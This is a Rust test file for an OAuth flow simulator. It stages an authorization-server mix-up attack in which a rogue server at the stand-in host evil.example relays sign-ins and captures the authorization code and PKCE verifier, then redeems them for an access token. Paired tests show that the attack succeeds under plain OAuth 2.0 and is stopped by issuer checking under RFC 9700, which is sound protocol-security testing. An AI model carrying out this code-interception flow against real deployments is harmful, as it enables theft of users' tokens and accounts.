//! A story of its own: two authorization servers, an attacker with a server and a browser. It
//! stands in no list, and nothing in the engine knows of it.
//!
//! A mix-up in small ([RFC 9700 section 4.4](https://www.rfc-editor.org/rfc/rfc9700.html#section-4.4)).

use http::{HeaderValue, StatusCode, header};
use oauth_flow_simulator::flow::Flow;
use oauth_flow_simulator::flow::story::{Play, Story};
use oauth_flow_simulator::ground::clock::Timestamp;
use oauth_flow_simulator::protocol::message_kind::MessageKind;
use oauth_flow_simulator::protocol::value_kind::ValueKind;
use oauth_flow_simulator::run::play;
use oauth_flow_simulator::scenario::PASSWORD;
use oauth_flow_simulator::server::policy::Profile;
use oauth_flow_simulator::server::{Handled, Request, Response};
use oauth_flow_simulator::simulation::cast::{
    AUTHORIZATION_SERVER, BROWSER, CLIENT, MEMBER, Member, PERSONS_BROWSER, RESOURCE_SERVER,
    SERVER, Site, application,
};
use oauth_flow_simulator::simulation::lines::Lines;
use oauth_flow_simulator::simulation::stage::{Stage, Stopped};
use oauth_flow_simulator::simulation::trace::{Appearance, Outcome, Party, PartyKind, Trace};

const EVIL: Party = Party(5);
const OTHER_SERVER: Party = Party(6);
const EVIL_BROWSER: Party = Party(7);

static CAST: &[Member] = &[
    PERSONS_BROWSER,
    application(Appearance::SinglePageApplication),
    Member {
        party: EVIL,
        kind: PartyKind::Attacker,
        appearance: Appearance::Thief,
        name: |_| "Evil server".to_owned(),
        host: |_| "evil.example",
        site: Some(Site(answer_of_the_attacker)),
        ..MEMBER
    },
    Member {
        party: EVIL_BROWSER,
        name: |_| "Evil browser".to_owned(),
        ..MEMBER
    },
    SERVER,
    Member {
        party: OTHER_SERVER,
        name: |_| "Other server".to_owned(),
        host: |_| "other.example",
        ..SERVER
    },
    RESOURCE_SERVER,
];

/// What no table has words for is told by its kind.
static LINES: Lines = Lines {
    request: &[],
    judgement: &[],
    answer: &[],
    refusal: &[],
};

/// Sends whoever asks for authorization on to the honest server, and takes every code.
fn answer_of_the_attacker(request: &Request, _: Timestamp) -> Handled {
    let mut response = Response::new(Vec::new());
    if request.uri().path() == "/authorize" {
        let query = request.uri().query().unwrap_or_default();
        let url = format!("https://auth.example.com/authorize?{query}");
        *response.status_mut() = StatusCode::SEE_OTHER;
        let location = HeaderValue::try_from(url).expect("it is an address");
        response.headers_mut().insert(header::LOCATION, location);
        return Handled::new(response, MessageKind::PageResponse);
    }
    *response.status_mut() = StatusCode::BAD_REQUEST;
    Handled::new(response, MessageKind::TokenErrorResponse)
}

fn mix_up(stage: &mut Stage) -> Result<(), Stopped> {
    let mut believed = stage.metadata(AUTHORIZATION_SERVER);
    believed.authorization_endpoint = "https://evil.example/authorize".to_owned();
    believed.token_endpoint = "https://evil.example/token".to_owned();
    believed.issuer = "https://evil.example".to_owned();
    let client = stage.client(CLIENT);
    client.metadata = believed;
    client.start_transaction(true, None);
    let url = client.authorization_request("code");
    let kind = MessageKind::AuthorizationRequest;
    let opened = stage.navigate(CLIENT, BROWSER, kind, &url, &[])?;
    let callback = sign_in(stage, opened.url())?;
    let request = stage.browser(BROWSER).open(&callback);
    let kind = MessageKind::AuthorizationResponse;
    let arrived = stage.visit(BROWSER, kind, &request, &[])?;
    let client = stage.client(CLIENT);
    let answer = client.judge_authorization_response(arrived.url(), None, &mut Vec::new());
    let answer = answer.map_err(|refusal| stage.client_stops(CLIENT, refusal))?;
    let code = answer.get("code").expect("there is a code").to_owned();
    let request = stage.client(CLIENT).code_request(&code);
    stage.exchange(CLIENT, &request, &LINES)?;
    use_the_loot(stage)
}

/// The person signs in and approves, from wherever `url` leads.
fn sign_in(stage: &mut Stage, url: &str) -> Result<String, Stopped> {
    let request = stage.browser(BROWSER).open(url);
    let elsewhere = stage.exchange(BROWSER, &request, &LINES)?;
    let url = stage.location(EVIL, &elsewhere)?;
    let request = stage.browser(BROWSER).open(&url);
    let page = stage.exchange(BROWSER, &request, &LINES)?;
    let form = stage.form(&page)?;
    let entries = [("username", "alice"), ("password", PASSWORD)];
    let request = stage.browser(BROWSER).fill_in(&form, &entries);
    let page = stage.exchange(BROWSER, &request, &LINES)?;
    let form = stage.form(&page)?;
    let approves = [("decision", "approve")];
    let request = stage.browser(BROWSER).fill_in(&form, &approves);
    let answer = stage.exchange(BROWSER, &request, &LINES)?;
    // A browser of somebody else has no session here.
    let request = stage.browser(EVIL_BROWSER).open(&url);
    let page = stage.exchange(EVIL_BROWSER, &request, &LINES)?;
    assert!(stage.form(&page)?.asks_for_password);
    stage.location(AUTHORIZATION_SERVER, &answer)
}

fn use_the_loot(stage: &mut Stage) -> Result<(), Stopped> {
    let code = stage.known(EVIL, ValueKind::Code).expect("it was sent");
    // The application sent its proof along: PKCE is no help against whom it trusts.
    let verifier = stage.known(EVIL, ValueKind::CodeVerifier);
    stage.client(EVIL).pretend(verifier);
    let metadata = stage.metadata(OTHER_SERVER);
    assert_eq!(metadata.token_endpoint, "https://other.example/token");
    let honest = std::mem::replace(&mut stage.client(EVIL).metadata, metadata);
    let request = stage.client(EVIL).code_request(&code);
    let refused = stage.exchange(EVIL, &request, &LINES)?;
    assert_eq!(refused.status(), StatusCode::BAD_REQUEST);
    stage.client(EVIL).metadata = honest;
    let request = stage.client(EVIL).code_request(&code);
    let tokens = stage.exchange(EVIL, &request, &LINES)?;
    assert_eq!(tokens.status(), StatusCode::OK);
    Ok(())
}

fn play_under(profile: Profile) -> Trace {
    let flow = Flow::parse("authorization-code-pkce").expect("it is in the list");
    let mut scenario = flow.scenario();
    scenario.profile = profile;
    let story = Story {
        id: "mix-up",
        line: flow.usual_story().line,
        cast: CAST,
        switches: &[],
        play: Play::usual(mix_up),
    };
    play(flow, &story, &scenario).expect("it can be played")
}

fn kinds(trace: &Trace, party: Party) -> Vec<ValueKind> {
    let last = trace.steps.last().expect("there is a step");
    let known = last.knowledge.of(party).iter();
    known.map(|value| trace.values[*value].kind).collect()
}

#[test]
fn an_attacker_with_a_server_gets_the_code_where_nobody_names_the_issuer() {
    let trace = play_under(Profile::OAuth20);
    assert_eq!(trace.outcome, Outcome::Finished);
    assert_eq!(trace.actors.len(), CAST.len());
    assert!(kinds(&trace, EVIL).contains(&ValueKind::AccessToken));
    assert!(!kinds(&trace, CLIENT).contains(&ValueKind::AccessToken));
    // The code was sent to the other server too, which knows nothing of it.
    assert!(kinds(&trace, OTHER_SERVER).contains(&ValueKind::Code));
    assert!(!kinds(&trace, OTHER_SERVER).contains(&ValueKind::AccessToken));
    assert!(kinds(&trace, EVIL_BROWSER).contains(&ValueKind::SessionCookie));
}

#[test]
fn the_issuer_in_the_answer_ends_the_mix_up() {
    let trace = play_under(Profile::Rfc9700);
    assert!(!kinds(&trace, EVIL).contains(&ValueKind::Code));
    assert!(
        matches!(&trace.outcome, Outcome::Stopped { party, reason }
            if *party == CLIENT && reason.to_string().contains("iss differs")),
        "{:?}",
        trace.outcome
    );
}
